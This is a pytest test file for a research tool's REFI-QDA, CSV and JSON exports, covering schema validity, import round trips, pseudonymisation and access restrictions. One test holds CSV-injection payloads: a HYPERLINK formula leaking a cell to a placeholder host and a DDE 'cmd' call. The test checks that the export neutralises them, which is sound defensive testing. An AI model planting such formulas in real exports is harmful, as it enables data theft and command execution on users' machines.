"""Exports from demo data: XSD-valid REFI-QDA with exact offsets, the import round trip, CSV/JSON, privacy."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import uuid
import zipfile
from datetime import date
from pathlib import Path

import pytest
from lxml import etree
from sqlalchemy import delete, select

from core.access import Reviewer
from reports.exports import export_data, import_project
from reports.guids import code_guid, user_guid
from storage import repos
from storage.models import Answer, Code, Coding, Interview
from storage.uow import Database

ROOT = Path(__file__).resolve().parents[2]
XSD = ROOT / "../shared/refi-qda/Project.xsd"
NS = "urn:QDA-XML:project:1.0"
Q = f"{{{NS}}}"
ALL = Reviewer("lead", frozenset({"*"}))


@pytest.fixture(scope="session")
def schema():
    if not XSD.exists():
        pytest.fail(f"REFI-QDA schema not found at {XSD.resolve()} (shared/ must sit beside the checkout)")
    return etree.XMLSchema(etree.parse(str(XSD)))


def _qde(data: bytes) -> tuple[etree._Element, zipfile.ZipFile]:
    z = zipfile.ZipFile(io.BytesIO(data))
    return etree.fromstring(z.read("project.qde")), z


async def _human(db: Database) -> list[tuple[int, str, str, str, str]]:
    async with db.uow() as uow:
        rows = (await uow.session.execute(select(Coding.answer_id, Coding.code_id, Coding.source, Coding.status,
                                                 Coding.coder).where(Coding.source == "human"))).all()
    return sorted(tuple(r) for r in rows)


async def _answers(db: Database) -> dict[int, Answer]:
    async with db.uow() as uow:
        return {a.id: a for a in (await uow.session.scalars(select(Answer))).all()}


async def test_qdpx_is_xsd_valid_with_exact_offsets_and_stable_guids(demo, schema):
    out = await export_data(demo, "qdpx", reviewer=ALL)
    root, z = _qde(out.data)
    assert schema.validate(root), schema.error_log
    answers = await _answers(demo)
    sources = root.findall(f"{Q}Sources/{Q}TextSource")
    assert len(sources) > 10
    checked: set[int] = set()
    for ts in sources:
        path = ts.get("plainTextPath")
        assert path.startswith("internal://")
        text = z.read("sources/" + path.removeprefix("internal://")).decode("utf-8")
        whole: dict[int, tuple[int, int]] = {}
        for sel in ts.findall(f"{Q}PlainTextSelection"):
            answer_id = int(sel.find(f"{Q}Description").text.split()[2])
            start, end = int(sel.get("startPosition")), int(sel.get("endPosition"))
            if answer_id not in whole:  # an answer's first selection is the whole answer
                assert text[start:end] == answers[answer_id].text  # Unicode characters, end exclusive
                whole[answer_id] = (start, end)
            else:  # another coder's codings, or a passage: inside that answer
                assert whole[answer_id][0] <= start < end <= whole[answer_id][1]
            checked.add(answer_id)
    assert len(checked) == out.answers  # every answer once, with one selection per passage and coder
    assert any("\u4e00" <= ch <= "\u9fff" for n in z.namelist()[1:] for ch in z.read(n).decode())
    users = {u.get("id"): u.get("guid") for u in root.iter(f"{Q}User")}
    assert users["auto"] == user_guid("auto") and users["lead"] == user_guid("lead")
    code_guids = {c.get("guid") for c in root.iter(f"{Q}Code")}
    assert code_guids >= {code_guid("price"), code_guid("theme-predictable-billing")}
    nested = root.find(f"{Q}CodeBook/{Q}Codes/{Q}Code/{Q}Code")
    assert nested is not None  # the hierarchy survives
    assert {v.get("name") for v in root.iter(f"{Q}Variable")} == {"role", "segment", "round"}
    for g in root.iter():
        if g.get("guid"):
            uuid.UUID(g.get("guid"))
    again = await export_data(demo, "qdpx", reviewer=ALL)
    assert again.data == out.data  # re-exports match byte for byte


async def test_cases_are_pseudonymous_and_anonymous_answers_have_no_case(demo):
    out = await export_data(demo, "qdpx", reviewer=ALL)
    root, z = _qde(out.data)
    names = {c.get("name") for c in root.iter(f"{Q}Case")}
    assert names and all(n.startswith("P-") for n in names)
    linked = {r.get("targetGUID") for r in root.iter(f"{Q}SourceRef")}
    anonymous = [ts for ts in root.iter(f"{Q}TextSource") if ts.get("name").startswith("anonymous ")]
    assert anonymous and not {ts.get("guid") for ts in anonymous} & linked
    blob = etree.tostring(root, encoding="unicode") + "".join(z.read(n).decode() for n in z.namelist()[1:])
    for name in ("Li Wei", "Anna Schmidt", "Acme Tools", "J. Doe", "刘先生", "华东机械"):
        assert name not in blob


async def test_qdc_codebook_is_a_codebook_element_per_the_project_schema(demo, schema):
    out = await export_data(demo, "qdc")
    doc = etree.fromstring(out.data)
    assert doc.tag == "{urn:QDA-XML:codebook:1.0}CodeBook"
    # No Codebook.xsd here: check the element against Project.xsd's CodeBookType by moving it into a Project.
    moved = etree.fromstring(out.data.replace(b"urn:QDA-XML:codebook:1.0", NS.encode()))
    project = etree.Element(f"{Q}Project", name="codebook check", nsmap={None: NS})
    project.append(moved)
    assert schema.validate(project), schema.error_log
    async with demo.uow() as uow:
        n = len((await uow.session.scalars(select(Code))).all())
    assert len(list(moved.iter(f"{Q}Code"))) == n


async def test_export_then_import_preserves_every_coding(demo):
    before = await _human(demo)
    assert any(r[3] == "rejected" for r in before) and any(r[3] == "applied" for r in before)
    out = await export_data(demo, "qdpx", reviewer=ALL)
    unchanged = await import_project(demo, out.data, ALL)
    assert (unchanged.created, unchanged.reapplied, unchanged.restored, unchanged.themes) == (0, 0, 0, [])
    assert await _human(demo) == before
    async with demo.uow() as uow:  # lose every human decision of the round, then bring them back from the file
        ids = (await uow.session.scalars(select(Answer.id).where(Answer.assessment_id.in_(out.rounds)))).all()
        await uow.session.execute(delete(Coding).where(Coding.source == "human", Coding.answer_id.in_(ids)))
        await uow.commit()
    restored = await import_project(demo, out.data, ALL)
    assert restored.created + restored.restored == len([r for r in before if r[0] in set(ids)])
    assert await _human(demo) == before  # same count, same (answer, code, source, status, coder)
    assert (await export_data(demo, "qdpx", reviewer=ALL)).data == out.data


async def test_codes_and_passages_made_in_another_tool_come_back(demo):
    out = await export_data(demo, "qdpx", reviewer=ALL)
    root, z = _qde(out.data)
    ts = root.find(f"{Q}Sources/{Q}TextSource")
    sel = ts.find(f"{Q}PlainTextSelection")
    answer_id = int(sel.find(f"{Q}Description").text.split()[2])
    start = int(sel.get("startPosition"))
    alice, code = str(uuid.uuid4()).upper(), str(uuid.uuid4()).upper()
    etree.SubElement(root.find(f"{Q}Users"), f"{Q}User", guid=alice, name="Alice")
    etree.SubElement(root.find(f"{Q}CodeBook/{Q}Codes"), f"{Q}Code", guid=code, name="Budget predictability",
                     isCodable="true", color="#112233")
    def passage(s: int, e: int) -> None:
        new = etree.Element(f"{Q}PlainTextSelection", guid=str(uuid.uuid4()), startPosition=str(s),
                            endPosition=str(e))
        cod = etree.SubElement(new, f"{Q}Coding", guid=str(uuid.uuid4()), creatingUser=alice)
        etree.SubElement(cod, f"{Q}CodeRef", targetGUID=code)
        sel.addnext(new)
    passage(start, start + 2)  # inside an answer: maps by offsets
    passage(0, 3)  # the transcript's header line: no answer there
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as w:
        w.writestr("project.qde", etree.tostring(root, xml_declaration=True, encoding="utf-8"))
        for n in z.namelist()[1:]:
            w.writestr(n, z.read(n))
    result = await import_project(demo, buf.getvalue(), ALL)
    assert result.themes == ["theme-budget-predictability"] and result.created == 1
    assert sum(result.skipped.values()) == 1 and "1 new human codings" in result.summary()
    async with demo.uow() as uow:
        theme = await uow.session.get(Code, "theme-budget-predictability")
        assert theme.kind == "theme" and theme.colour == "#112233"
        row = await uow.session.scalar(select(Coding).where(Coding.code_id == theme.id))
        assert (row.answer_id, row.source, row.status, row.coder) == (answer_id, "human", "applied", "Alice")


async def test_import_rejects_files_that_are_not_projects(demo):
    from reports.qdpx_import import QdpxImportError

    with pytest.raises(QdpxImportError, match="not a zip"):
        await import_project(demo, b"hello", ALL)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as w:
        w.writestr("notes.txt", "x")
    with pytest.raises(QdpxImportError, match=r"no project\.qde"):
        await import_project(demo, buf.getvalue(), ALL)


TRICKY = 'He said "no", then: a, b,\nand c — 价格太高，"发票"每次都不一样\r\nend'


async def test_csv_and_json_round_trip_tricky_text(tmp_path):
    db = await Database.open(f"sqlite:///{tmp_path}/t.db")
    try:
        async with db.uow() as uow:
            s = uow.session
            a = await repos.create_assessment(s, name="Tricky, \"quoted\"", opened_on=date(2026, 3, 1))
            await repos.sync_codes(s, [{"id": "price", "label_en": "Price", "label_zh": "价格"}])
            sv = await repos.ensure_script_version(
                s, script_id="customer-current", lang="zh", version=2, title="客户", audience="customer:current",
                body={"questions": [{"id": "q1", "kind": "open", "text": "您为什么选择我们，\"真的\"？"}]})
            p = await repos.participant_for_name(s, "Acme / Jane", kind="customer", segment="current", lang="zh")
            iv = Interview(assessment_id=a.id, participant_id=p.id, script_id="customer-current",
                           script_version_id=sv.id, lang="zh", segment="customer:current")
            s.add(iv)
            await s.flush()
            for step, text in enumerate(("便宜", TRICKY)):
                ans = Answer(assessment_id=a.id, interview_id=iv.id, ladder_key="L1", script_id="customer-current",
                             question_id="q1", segment="customer:current", lang="zh", step=step, text=text,
                             probe_text="为什么, \"价格\"?" if step else None,
                             probe_reason="surface:price" if step else None)
                s.add(ans)
                await s.flush()
                s.add(Coding(answer_id=ans.id, code_id="price", source="auto", status="proposed", confidence=0.8))
                s.add(Coding(answer_id=ans.id, code_id="price", source="human", status="applied", coder="lead"))
            await uow.commit()
            pseudonym = p.pseudonym
        raw = (await export_data(db, "csv")).data
        assert raw.startswith("\ufeff".encode())  # a byte-order mark by default: Excel then reads the Chinese
        path = tmp_path / "a.csv"
        path.write_bytes(raw)
        with path.open(newline="", encoding="utf-8-sig") as f:
            rows = list(csv.DictReader(f))
        assert [r["answer"] for r in rows] == ["便宜", TRICKY]
        assert rows[1]["probe_text"] == '为什么, "价格"?' and rows[1]["probe_reason"] == "surface:price"
        assert rows[1]["question"] == '您为什么选择我们，"真的"？' and rows[1]["script_version"] == "2"
        assert rows[1]["pseudonym"] == pseudonym and rows[1]["step"] == "1"
        assert rows[1]["codes_auto"] == "price 0.80" and rows[1]["codes_human"] == "price applied (lead)"
        assert "Jane" not in raw.decode() and "Acme" not in raw.decode()
        plain = (await export_data(db, "csv", bom=False)).data
        assert not plain.startswith("\ufeff".encode()) and list(csv.DictReader(io.StringIO(
            plain.decode("utf-8"), newline="")))[1]["answer"] == TRICKY
        doc = json.loads((await export_data(db, "json")).data)
        assert doc["answers"][1]["answer"] == TRICKY and doc["rounds"][0]["name"] == 'Tricky, "quoted"'
        assert {(c["source"], c["status"]) for c in doc["answers"][1]["codings"]} == {
            ("auto", "proposed"), ("human", "applied")}
    finally:
        await db.close()


FORMULAS = ["=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tindented", "\rreturn", "=1+1 价格"]


async def test_csv_neutralises_formulas_and_the_cli_can_leave_out_the_bom(tmp_path):
    """Cells a spreadsheet would run as formulas start with a quote; the JSON keeps the text as given."""
    db = await Database.open(f"sqlite:///{tmp_path}/f.db")
    try:
        async with db.uow() as uow:
            s = uow.session
            a = await repos.create_assessment(s, name="=evil()", opened_on=date(2026, 3, 1))
            sv = await repos.ensure_script_version(
                s, script_id="customer-current", lang="en", version=1, title="C", audience="customer:current",
                body={"questions": [{"id": "q1", "kind": "open", "text": "@question"}]})
            p = await repos.participant_for_name(s, "Jane", kind="customer", segment="current")
            iv = Interview(assessment_id=a.id, participant_id=p.id, script_id="customer-current",
                           script_version_id=sv.id, lang="en", segment="customer:current")
            s.add(iv)
            await s.flush()
            for step, text in enumerate([*FORMULAS, "plain - text", "a=b"]):
                s.add(Answer(assessment_id=a.id, interview_id=iv.id, ladder_key="L1", script_id="customer-current",
                             question_id="q1", segment="customer:current", lang="en", step=step, text=text))
            await uow.commit()
        data = (await export_data(db, "csv")).data.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(data, newline="")))
        assert [r["answer"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain - text", "a=b"]
        assert rows[0]["question"] == "'@question" and rows[0]["step"] == "0"
        doc = json.loads((await export_data(db, "json")).data)
        assert [x["answer"] for x in doc["answers"]][: len(FORMULAS)] == FORMULAS
    finally:
        await db.close()
    env = {**os.environ, "CNA_DATABASE_URL": f"sqlite:///{tmp_path}/f.db", "PYTHONPATH": str(ROOT)}
    for flag, bom in (("--no-bom", False), ("--bom", True)):
        out = tmp_path / f"x{flag}.csv"
        r = subprocess.run([sys.executable, "-m", "cli.main", "export", flag, "--out", str(out)], cwd=tmp_path,
                           env=env, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        assert out.read_bytes().startswith("\ufeff".encode()) is bom


@pytest.mark.parametrize("fmt", ["csv", "json", "qdpx"])
async def test_restricted_answers_absent_for_a_reviewer_without_the_department(demo, fmt):
    async with demo.uow() as uow:  # give the demo's restricted answers text found nowhere else
        restricted = (await uow.session.scalars(select(Answer).where(Answer.department.is_not(None)))).all()
        for a in restricted:
            a.text = f"RESTRICTED-{a.id}, only for {a.department}"
        await uow.commit()
        departments = {a.department.lower() for a in restricted}
    assert restricted, "the demo should hold department-restricted answers"
    hidden = await export_data(demo, fmt, reviewer=Reviewer("sales-lead", frozenset({"sales"})))
    shown = await export_data(demo, fmt, reviewer=Reviewer("cfo", frozenset(departments)))
    secret = [f"RESTRICTED-{a.id}, only for {a.department}" for a in restricted if a.assessment_id in hidden.rounds]
    assert secret

    def blob(data: bytes) -> str:
        if fmt != "qdpx":
            return data.decode("utf-8")
        z = zipfile.ZipFile(io.BytesIO(data))
        return "".join(z.read(n).decode("utf-8") for n in z.namelist())

    assert hidden.withheld == len(secret) and shown.withheld == 0
    assert shown.answers == hidden.answers + hidden.withheld
    assert "RESTRICTED-" not in blob(hidden.data)
    assert all(t in blob(shown.data) for t in secret)


@pytest.mark.postgres
async def test_report_and_round_trip_on_postgresql(pg_url, schema):
    from app.catalog import load_catalog
    from cli.demo import seed_demo
    from reports import render_report

    db = await Database.open(pg_url)
    try:
        await seed_demo(db, load_catalog())
        html = await render_report(db, None, "html", "zh", Reviewer())
        assert '<svg class="chart timeline"' in html and "路线图" in html
        before = await _human(db)
        out = await export_data(db, "qdpx", reviewer=ALL)
        root, _ = _qde(out.data)
        assert schema.validate(root), schema.error_log
        async with db.uow() as uow:
            await uow.session.execute(delete(Coding).where(Coding.source == "human"))
            await uow.commit()
        await import_project(db, out.data, ALL)
        assert await _human(db) == before
    finally:
        await db.close()


async def test_anonymous_answers_carry_no_answer_id_or_person_in_json(demo):
    doc = json.loads((await export_data(demo, "json")).data)
    anonymous = [a for a in doc["answers"] if a["anonymous"]]
    assert anonymous, "the demo has anonymous answers"
    assert all(a["answer_id"] is None and a["pseudonym"] is None and a["interview_id"] is None for a in anonymous)
    assert all(a["answer_id"] is not None for a in doc["answers"] if not a["anonymous"])


async def _write_memos(db: Database) -> dict[str, str]:
    """A memo on the round, a theme, an opportunity and an answer (the last two marked for the report)."""
    from storage.models import Assessment, Opportunity
    from storage.review import ReviewScope, set_memo

    async with db.uow() as uow:
        s = uow.session
        round_id = (await s.scalars(select(Assessment.id).where(Assessment.status == "open"))).first()
        scope = ReviewScope(round_id, ALL)
        answer_id = (await s.scalars(select(Answer.id).where(Answer.assessment_id == round_id)
                                     .order_by(Answer.id))).first()
        opp = (await s.scalars(select(Opportunity).where(Opportunity.assessment_id == round_id))).first()
        await set_memo(s, scope, "round", round_id, "轮次备忘：客户先谈交付")
        await set_memo(s, scope, "code", "theme-predictable-billing", "Merge with invoices?", in_report=True)
        await set_memo(s, scope, "opportunity", opp.id, "Ask IT about the ERP feed")
        await set_memo(s, scope, "answer", answer_id, "Budget is fixed per quarter — the real need", in_report=True)
        await uow.commit()
    return {"answer": str(answer_id), "opportunity": opp.title}


async def test_memos_are_notes_with_note_refs_and_the_project_stays_valid(demo, schema):
    marked = await _write_memos(demo)
    out = await export_data(demo, "qdpx", reviewer=ALL)
    root, _z = _qde(out.data)
    assert schema.validate(root), schema.error_log
    notes = {n.get("guid"): n for n in root.findall(f"{Q}Notes/{Q}Note")}
    assert len(notes) == 4
    texts = {n.find(f"{Q}PlainTextContent").text for n in notes.values()}
    assert "轮次备忘：客户先谈交付" in texts and "Merge with invoices?" in texts
    assert all(n.get("creatingUser") == user_guid("lead") and n.get("creationDateTime") for n in notes.values())
    refs = {r.get("targetGUID"): r for r in root.iter(f"{Q}NoteRef")}
    assert set(refs) == set(notes)  # every note is referenced from what it is about
    code = next(c for c in root.iter(f"{Q}Code") if c.get("guid") == code_guid("theme-predictable-billing"))
    assert [r.get("targetGUID") for r in code.findall(f"{Q}NoteRef")]
    on_project = root.findall(f"{Q}NoteRef")
    assert len(on_project) == 2  # the round and the opportunity
    on_selection = [sel for sel in root.iter(f"{Q}PlainTextSelection") if sel.find(f"{Q}NoteRef") is not None]
    assert len(on_selection) == 1
    assert on_selection[0].find(f"{Q}Description").text.split()[2] == marked["answer"]
    names = {n.get("name") for n in notes.values()}
    assert f"Memo on opportunity: {marked['opportunity']}" in names


async def test_memos_marked_for_the_report_are_in_its_appendix(demo):
    from reports.render import render_report

    marked = await _write_memos(demo)
    md = await render_report(demo, None, "md", "en", reviewer=ALL)
    appendix = md.split("## Appendix: memos", 1)[1]
    assert "Merge with invoices?" in appendix and "Budget is fixed per quarter" in appendix
    assert "Ask IT about the ERP feed" not in md and "轮次备忘" not in md  # not marked for the report
    assert "by lead" in appendix and f"**Answer #{marked['answer']} (" in appendix
    zh = await render_report(demo, None, "html", "zh", reviewer=ALL)
    assert "附录：备忘录" in zh and "主题：" in zh
